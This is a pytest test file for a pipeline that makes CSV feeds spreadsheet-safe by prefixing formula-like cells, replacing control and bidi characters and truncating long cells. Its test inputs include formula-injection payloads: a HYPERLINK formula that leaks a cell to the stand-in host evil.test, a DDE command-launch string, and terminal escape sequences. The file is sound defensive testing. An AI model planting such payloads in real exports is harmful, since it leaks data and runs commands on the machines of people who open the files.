"""CSV feeds safe for spreadsheets (pipelines/feed_cells.py, sql/csv_safe_cell.sql): formula-like
text cells get a leading apostrophe, control and bidi characters are replaced, long cells are cut;
numbers, dates and the Parquet feed are left as they are."""

import csv
import re
import sys
from datetime import UTC, datetime
from decimal import Decimal

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipelines.feed_cells import csv_safe_select
from pipelines.publish import publish_feed

LIMIT = 1000
MARKER = "…[truncated]"
FORMULA_START = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")   # and full-width = + - @
CONTROLS = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
PLAIN_NEGATIVE = re.compile(r"-[0-9]+(\.[0-9]+)?")


@pytest.fixture(scope="module")
def cell_con():
    con = duckdb.connect()
    con.execute("create table t (x varchar)")
    csv_safe_select(con, "t")           # creates the macro
    yield con
    con.close()


def safe(con, text):
    return con.execute("select csv_safe_cell(?)", [text]).fetchone()[0]


@pytest.mark.parametrize(("text", "expected"), [
    # formulas and what a spreadsheet reads as one (OWASP): a leading apostrophe
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ('=HYPERLINK("http://evil.test/?d="&A1,"click")', '\'=HYPERLINK("http://evil.test/?d="&A1,"click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("-", "'-"),
    ("-1e5", "'-1e5"),                       # not a plain number as feeds write them
    ("\tx", "' x"),                          # tab and CR count as a start, then become spaces
    ("\rx", "' x"),
    ("\t=1+1", "' =1+1"),
    # full-width = + - @: some spreadsheets (with an East Asian input method) read them as ASCII
    ("\uff1d1+1", "'\uff1d1+1"),
    ("\uff0b1", "'\uff0b1"),
    ("\uff0d1", "'\uff0d1"),
    ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
    # plain numbers and ordinary text stay
    ("-2.5", "-2.5"),
    ("-3", "-3"),
    ("2.5", "2.5"),
    ("", ""),
    (None, None),
    ("A100 = 80GB, -2 +3 @home", "A100 = 80GB, -2 +3 @home"),   # only the first character counts
    (" =1+1", " =1+1"),                      # a leading space: text to a spreadsheet
    ("'=1+1", "'=1+1"),                      # already text
    ("北京 ¥1.98/时", "北京 ¥1.98/时"),
    # control and bidi characters: U+FFFD, line breaks and tabs a space
    ("a\x00b", "a\ufffdb"),
    ("\x1b[31m红色", "\ufffd[31m红色"),
    ("abc\u202edef", "abc\ufffddef"),
    ("x\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069y", "x" + "\ufffd" * 8 + "y"),
    ("c1\x85\x9b\x7f", "c1\ufffd\ufffd\ufffd"),
    ("two\nlines\r\nhere", "two lines  here"),
    ("a\u2028b\u2029c\x0bd\x0ce", "a b c d e"),
    ("\x00=1+1", "\ufffd=1+1"),              # the NUL is the first character, shown
    ("@\x1b", "'@\ufffd"),
])
def test_cell_rule(cell_con, text, expected):
    assert safe(cell_con, text) == expected


def test_long_cells_are_cut_to_the_limit_with_a_marker(cell_con):
    assert safe(cell_con, "x" * LIMIT) == "x" * LIMIT                     # at the limit: whole
    cut = safe(cell_con, "x" * (LIMIT + 1))
    assert len(cut) == LIMIT and cut.endswith(MARKER) and cut.startswith("x" * 988)
    megabyte = safe(cell_con, "超长" * (1 << 19))                         # 1 Mi characters
    assert len(megabyte) == LIMIT and megabyte == "超长" * 494 + MARKER
    formula = safe(cell_con, "=" + "1" * 5000)
    assert len(formula) == LIMIT and formula.startswith("'=1") and formula.endswith(MARKER)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=1200))
def test_every_cell_comes_out_safe(cell_con, text):
    out = safe(cell_con, text)
    assert len(out) <= LIMIT
    assert not CONTROLS.search(out)
    assert (not out.startswith(FORMULA_START) or PLAIN_NEGATIVE.fullmatch(out)
            or out.startswith("'"))
    if not CONTROLS.search(text) and len(text) <= LIMIT and (
            not text.startswith(FORMULA_START) or PLAIN_NEGATIVE.fullmatch(text)):
        assert out == text                   # ordinary text is written as it is


# -- the feeds ----------------------------------------------------------------------------------

HOSTILE_SKU = "=HYPERLINK(\"http://evil.test\",\"x\")\x1b[2J\u202e"


@pytest.fixture
def hostile_con():
    con = duckdb.connect()
    con.execute("create schema marts")
    con.execute("create table marts.demo (sku varchar, note varchar, region_codes varchar[], "
                "change_pct double, tiny double, price decimal(18,6), gpu_count integer, "
                "available boolean, day date, seen_at timestamptz)")
    con.execute("insert into marts.demo values (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                [HOSTILE_SKU, "+1" + "啊" * 5000, ["@x", "北京"], -2.5, -1e-7, Decimal("-1.5"), -3,
                 True, datetime(2026, 11, 30).date(), datetime(2026, 11, 30, 9, tzinfo=UTC)])
    con.execute("insert into marts.demo values ('-4.25', null, null, null, null, null, null, "
                "null, null, null)")
    return con


def test_csv_feed_cells_are_safe_and_numbers_untouched(hostile_con, tmp_path):
    written = publish_feed(hostile_con, "marts.demo", tmp_path)
    csv.field_size_limit(sys.maxsize)
    with written["csv"].open(encoding="utf-8", newline="") as fh:
        first, second = list(csv.DictReader(fh))
    assert first["sku"] == "'=HYPERLINK(\"http://evil.test\",\"x\")\ufffd[2J\ufffd"
    assert first["note"].startswith("'+1啊") and len(first["note"]) == LIMIT
    assert first["note"].endswith(MARKER)
    assert first["region_codes"] == "[@x, 北京]"            # a list: its text, not a formula
    # numbers are written as DuckDB writes them, never prefixed (-1e-07 would be, as text)
    assert (first["change_pct"], first["tiny"], first["price"], first["gpu_count"]) == (
        "-2.5", "-1e-07", "-1.500000", "-3")
    assert (first["available"], first["day"], first["seen_at"]) == (
        "true", "2026-11-30", "2026-11-30T09:00:00Z")
    assert second["sku"] == "-4.25" and second["note"] == ""


def test_parquet_feed_keeps_the_text_as_stored(hostile_con, tmp_path):
    written = publish_feed(hostile_con, "marts.demo", tmp_path)
    [(sku, note)] = hostile_con.execute(
        f"select sku, note from '{written['parquet']}' where sku <> '-4.25'").fetchall()
    assert sku == HOSTILE_SKU and note == "+1" + "啊" * 5000


def test_a_read_only_connection_can_write_safe_feeds(hostile_con, tmp_path):
    # `gpuprices export` writes feeds from the published database, opened read-only
    db = tmp_path / "ro.db"
    hostile_con.execute(f"attach '{db}' as ro")
    hostile_con.execute("create schema ro.marts")
    hostile_con.execute("create table ro.marts.demo as select * from marts.demo")
    hostile_con.execute("detach ro")
    with duckdb.connect(str(db), read_only=True) as con:
        written = publish_feed(con, "marts.demo", tmp_path / "out")
    assert "'=HYPERLINK" in written["csv"].read_text(encoding="utf-8")
